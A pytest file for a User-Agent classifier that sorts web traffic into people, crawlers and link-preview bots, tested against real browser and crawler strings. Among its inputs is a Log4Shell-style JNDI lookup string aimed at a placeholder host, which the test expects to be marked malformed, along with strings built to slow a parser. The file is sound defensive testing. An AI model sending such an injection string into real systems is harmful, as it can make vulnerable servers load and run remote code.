"""People are people and robots are robots, on real User-Agents and on the rules that judge those not yet seen."""

import io
import json
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from portevoix.links.agents import write_judgements
from portevoix.links.robots import REASONS, Verdict, judge_agent, reason_words
from shared import shared_data

CHROME = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"


def test_all_published_crawlers_are_robots() -> None:
    crawlers = json.loads((shared_data("traffic") / "crawlers.json").read_text())
    samples = [sample for crawler in crawlers for sample in crawler["instances"]]

    assert [sample for sample in samples if judge_agent(sample).is_person] == []
    assert len(samples) > 500


def test_crawlers_of_which_a_name_alone_is_published_are_robots() -> None:
    crawlers = json.loads((shared_data("traffic") / "crawlers.json").read_text())
    names = [
        re.sub(r"\\(.)", r"\1", one["pattern"]).strip(" ^$/") for one in crawlers if not one["instances"]
    ]

    assert [name for name in names if judge_agent(f"Mozilla/5.0 (compatible; {name}/1.0)").is_person] == []
    assert len(names) > 10


def test_each_verdict_on_real_traffic_has_a_reason_in_words() -> None:
    folder = shared_data("traffic")
    agents = [one["ua"] for one in json.loads((folder / "browsers.json").read_text())]
    agents += [
        said for one in json.loads((folder / "crawlers.json").read_text()) for said in one["instances"]
    ]

    assert {judge_agent(agent).reason for agent in agents} <= REASONS.keys()


def test_all_real_browsers_are_people() -> None:
    browsers = json.loads((shared_data("traffic") / "browsers.json").read_text())

    assert [browser["ua"] for browser in browsers if not judge_agent(browser["ua"]).is_person] == []
    assert len(browsers) > 50


@pytest.mark.parametrize(
    "agent",
    [
        "LinkedInBot/1.0 (compatible; Mozilla/5.0; Apache-HttpClient +http://www.linkedin.com)",
        "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
        "Twitterbot/1.0",
        "TelegramBot (like TwitterBot)",
        "WhatsApp/2.23.20.0",
        "WhatsApp/2.24.1.5 A",
        "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
        "http.rb/5.1.1 (Mastodon/4.2.1; +https://social.example/)",
        "Mozilla/5.0 (compatible; Bluesky Cardyb/1.1; +mailto:support@bsky.app)",
        "Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)",
        "Mozilla/5.0 (Windows NT 6.1; WOW64) SkypeUriPreview Preview/0.5 skype-url-preview@microsoft.com",
    ],
)
def test_fetchers_of_previews_are_previews(agent: str) -> None:
    assert judge_agent(agent).kind == "preview"


@pytest.mark.parametrize(
    ("agent", "reason"),
    [
        (None, "no-agent"),
        ("", "no-agent"),
        ("   ", "no-agent"),
        ("Mozilla", "too-short"),
        ("Mozilla/5.0", "too-short"),
        ("python-requests/2.32", "library"),
        ("curl/8.5.0", "library"),
        ("okhttp/4.12.0", "library"),
        (CHROME.replace("Chrome/", "HeadlessChrome/"), "headless"),
        ("Mozilla/5.0 (compatible; NeverSeenBefore-Bot/3.1)", "names-itself"),
        ("NeverSeenBefore/1.0 (+https://never.example/about)", "gives-contact"),
        ("Mozilla/5.0 (compatible; NeverSeenBefore/2.0)", "unknown-program"),
        ("neverseenbefore/7.1", "bare-product"),
        (CHROME + "\x00", "malformed"),
        ("${jndi:ldap://x.example/a} Mozilla/5.0", "malformed"),
    ],
)
def test_stranger_is_a_robot_for_a_stated_reason(agent: str | None, reason: str) -> None:
    assert judge_agent(agent) == Verdict("robot", reason)


@pytest.mark.parametrize(
    "agent",
    [
        # Telephones named like a crawler: the maker chose the word.
        "Mozilla/5.0 (Linux; Android 4.2.2; HTC Butterfly Build/JDQ39) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/31.0.1650.59 Mobile Safari/537.36",
        "Mozilla/5.0 (Linux; Android 6.0; VR BOT 552) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/72.0.3626.121 Mobile Safari/537.36",
        "Mozilla/5.0 (Linux; Android 13; CUBOT NOTE 21) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/124.0.0.0 Mobile Safari/537.36",
        "Mozilla/5.0 (Linux; U; Android 15; zh-CN; PKH120 Build/AP3A.240617.008) AppleWebKit/537.36 "
        "(KHTML, like Gecko) Version/4.0 Chrome/100.0.4896.58 Mobile Safari/537.36",
        # Browsers inside applications, and of other days.
        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
        "Mobile/15E148 [LinkedInApp]/9.30.1234",
        "Mozilla/5.0 (Linux; Android 14; SM-S911B; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 "
        "Chrome/130.0 Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/490.0.0.63.82;]",
        "Lynx/2.8.9rel.1 libwww-FM/2.14 SSL-MM/1.4.1",
        "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1; Trident/4.0; QQDownload 691; SLCC2)",
        "Mozilla/5.0 (PlayStation; PlayStation 5/6.50) AppleWebKit/605.1.15 (KHTML, like Gecko)",
        "Mozilla/5.0 (Web0S; Linux/SmartTV) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/94.0 Safari/537.36",
        "BlackBerry9000/5.0.0.93 Profile/MIDP-2.0 Configuration/CLDC-1.1 VendorID/179",
    ],
)
def test_person_with_an_unusual_browser_is_a_person(agent: str) -> None:
    assert judge_agent(agent).kind == "person"


@given(st.text())
def test_any_agent_is_judged_for_a_known_reason(agent: str) -> None:
    assert reason_words(judge_agent(agent).reason) == REASONS[judge_agent(agent).reason]


@pytest.mark.parametrize(
    "agent", ["a" * 100_000, "(" * 5000, "Android " * 9000, "Mozilla/5.0 (" + "; " * 9000]
)
def test_agent_made_to_be_slow_is_judged_to_its_end(agent: str) -> None:
    assert judge_agent(agent).reason in REASONS


def test_list_of_agents_is_judged_line_by_line() -> None:
    target = io.StringIO()

    write_judgements(io.StringIO(f"{CHROME}\r\n\nTwitterbot/1.0\n"), target)

    assert target.getvalue().splitlines() == [
        "person\tlooks like a browser in a person's hands",
        "robot\tgave no User-Agent",
        "robot\tbuilds the preview of a link for a network or a messenger",
    ]
